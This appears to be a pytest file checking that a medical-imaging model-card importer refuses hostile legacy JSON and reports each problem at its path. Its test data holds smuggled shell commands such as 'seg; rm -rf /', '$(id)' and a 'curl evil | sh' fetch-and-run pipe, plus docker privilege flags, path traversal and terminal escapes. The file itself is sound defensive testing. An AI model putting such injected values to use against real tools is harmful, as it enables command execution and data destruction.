"""Hostile 2017 documents are refused with every problem at its JSON path, never imported or sanitised."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from legacy_helpers import LegacyDocument

from deepinfer._exceptions import CardError, Problem
from deepinfer.card import import_legacy

Change = Callable[[dict[str, Any]], None]


def setting(*keys: str | int, value: Any) -> Change:
    """A change that sets ``document[keys[0]][keys[1]]... = value``."""

    def change(document: dict[str, Any]) -> None:
        node: Any = document
        for key in keys[:-1]:
            node = node[key]
        node[keys[-1]] = value

    return change


def problems_of(document: dict[str, Any]) -> list[Problem]:
    with pytest.raises(CardError) as caught:
        import_legacy(document, "hostile.json")
    assert caught.value.source == "hostile.json"
    return caught.value.problems


# (change to ProstateSegmenter.json, JSON path of the problem, fragment of its message)
HOSTILE: list[tuple[str, Change, str, str]] = [
    (
        "privileged",
        setting("docker", "dockerhub_repository", value="--privileged deepinfer/x"),
        "$.docker.dockerhub_repository",
        "no options",
    ),
    (
        "volume-mount",
        setting("docker", "dockerhub_repository", value="deepinfer/x -v /:/host"),
        "$.docker.dockerhub_repository",
        "no spaces",
    ),
    (
        "trailing-newline",
        setting("docker", "dockerhub_repository", value="deepinfer/x\n"),
        "$.docker.dockerhub_repository",
        "owner/name[:tag]",
    ),
    (
        "repository-with-digest",
        setting("docker", "dockerhub_repository", value="deepinfer/x@sha256:00"),
        "$.docker.dockerhub_repository",
        "owner/name[:tag]",
    ),
    ("short-digest", setting("docker", "digest", value="sha256:abc"), "$.docker.digest", "64 lowercase hex"),
    (
        "digest-not-hex",
        setting("docker", "digest", value="sha256:" + "a" * 63 + "g"),
        "$.docker.digest",
        "hex",
    ),
    ("digest-upper-case", setting("docker", "digest", value="sha256:" + "A" * 64), "$.docker.digest", "hex"),
    ("digest-a-tag", setting("docker", "digest", value="latest"), "$.docker.digest", "sha256:"),
    ("md5-digest", setting("docker", "digest", value="md5:" + "a" * 32), "$.docker.digest", "sha256:"),
    ("data-path-parent", setting("data_path", value="/data/../etc"), "$.data_path", "'..'"),
    ("data-path-relative", setting("data_path", value="data"), "$.data_path", "absolute path"),
    ("data-path-odd-chars", setting("data_path", value="/data;touch x"), "$.data_path", "absolute path"),
    ("data-path-not-text", setting("data_path", value=["/data"]), "$.data_path", "string"),
    ("model-name-semicolon", setting("model_name", value="seg; rm -rf /"), "$.model_name", "shell"),
    ("model-name-subshell", setting("model_name", value="$(id)"), "$.model_name", "shell"),
    ("model-name-backticks", setting("model_name", value="`id`"), "$.model_name", "shell"),
    ("model-name-pipe", setting("model_name", value="seg|sh"), "$.model_name", "shell"),
    ("model-name-ampersand", setting("model_name", value="seg&&id"), "$.model_name", "shell"),
    ("model-name-space", setting("model_name", value="prostate segmenter"), "$.model_name", "shell"),
    ("model-name-option", setting("model_name", value="--rm"), "$.model_name", "shell"),
    (
        "member-name-semicolon",
        setting("members", 0, "name", value="Domain;id"),
        "$.members[0].name",
        "member name",
    ),
    (
        "member-name-subshell",
        setting("members", 3, "name", value="$(reboot)"),
        "$.members[3].name",
        "member name",
    ),
    (
        "member-name-space",
        setting("members", 5, "name", value="Output Smoothing"),
        "$.members[5].name",
        "member name",
    ),
    (
        "member-name-duplicated",
        setting("members", 1, "name", value="Domain"),
        "$.members[1].name",
        "already used at $.members[0]",
    ),
    (
        "choice-escape",
        setting("members", 0, "enum", 1, value="BWH\x1b[2J"),
        "$.members[0].enum[1]",
        "control characters",
    ),
    (
        "choice-newline",
        setting("members", 1, "enum", 0, value="Fast\nrm -rf /"),
        "$.members[1].enum[0]",
        "control characters",
    ),
    (
        "choice-c1-control",
        setting("members", 2, "enum", 1, value="Ens\x85emble"),
        "$.members[2].enum[1]",
        "control characters",
    ),
    (
        "choice-duplicated",
        setting("members", 2, "enum", value=["Single", "Single"]),
        "$.members[2].enum",
        "unique",
    ),
    (
        "enum-default-not-a-choice",
        setting("members", 0, "default", value="OTHER"),
        "$.members[0]",
        "not one of the choices",
    ),
    (
        "bool-default-not-a-bool",
        setting("members", 5, "default", value="maybe"),
        "$.members[5].default",
        "boolean",
    ),
    (
        "unknown-member-type",
        setting("members", 5, "type", value="python"),
        "$.members[5].type",
        "unknown member type",
    ),
    ("unknown-voltype", setting("members", 3, "voltype", value="Script"), "$.members[3].voltype", "voltype"),
    (
        "volume-as-parameter",
        setting("members", 3, "iotype", value="parameter"),
        "$.members[3].iotype",
        "input or output",
    ),
    ("member-not-an-object", setting("members", 6, value="verbose"), "$.members[6]", "object"),
    ("version-not-a-number", setting("version", value="v0.1"), "$.version", "not a number"),
    ("unknown-task", setting("task", value="Hacking."), "$.task", "not one of"),
    ("missing-organ", setting("organ", value=""), "$.organ", "missing"),
    ("docker-not-an-object", setting("docker", value="deepinfer/prostate"), "$.docker", "object"),
    (
        "metric-not-a-number",
        setting("test", value={"Accuracy": "high", "Metric": "Dice"}),
        "$.test.Accuracy",
        "number",
    ),
    (
        "negative-subjects",
        setting("test", value={"Accuracy": 0.8, "number of subjects": -1}),
        "$.test['number of subjects']",
        "greater than or equal to 0",
    ),
]


@pytest.mark.parametrize(("change", "path", "fragment"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_a_hostile_value_is_refused_at_its_path(
    legacy_document: LegacyDocument, change: Change, path: str, fragment: str
) -> None:
    document = legacy_document("ProstateSegmenter.json")
    change(document)

    problems = problems_of(document)

    assert [problem.path for problem in problems] == [path], problems
    assert fragment in problems[0].message


def test_uint8_default_out_of_range_is_refused(legacy_document: LegacyDocument) -> None:
    document = legacy_document("NeedleFinder-cpu.json")
    document["members"][2].update(type="uint8_t", default=300)

    problems = problems_of(document)

    assert [(p.path, p.message) for p in problems] == [("$.members[2]", "default 300 is above the maximum 255.0")]


def test_every_problem_is_collected(legacy_document: LegacyDocument) -> None:
    document = legacy_document("WMHSegmenterK2MICCAI2017.json")
    document["docker"]["dockerhub_repository"] = "--privileged deepinfer/x"
    document["docker"]["digest"] = "sha256:0"
    document["model_name"] = "wmh; curl evil | sh"
    document["data_path"] = "/../../etc"
    document["members"][1]["name"] = "Input`id`"
    document["version"] = "one"

    problems = problems_of(document)

    assert sorted(problem.path for problem in problems) == [
        "$.data_path",
        "$.docker.digest",
        "$.docker.dockerhub_repository",
        "$.members[1].name",
        "$.model_name",
        "$.version",
    ]


def test_messages_show_hostile_values_escaped_and_short(legacy_document: LegacyDocument) -> None:
    document = legacy_document("ProstateSegmenter.json")
    document["model_name"] = "x\x1b]0;owned\x07" + "A" * 500

    (problem,) = problems_of(document)

    assert "\x1b" not in problem.message and "\\x1b" in problem.message
    assert len(problem.message) < 250


def test_a_card_without_inputs_is_refused(legacy_document: LegacyDocument) -> None:
    document = legacy_document("ProstateSegmenter.json")
    document["members"] = [m for m in document["members"] if m.get("iotype") != "input"]

    (problem,) = problems_of(document)

    assert problem.path == "$.members" and "inputs" in problem.message
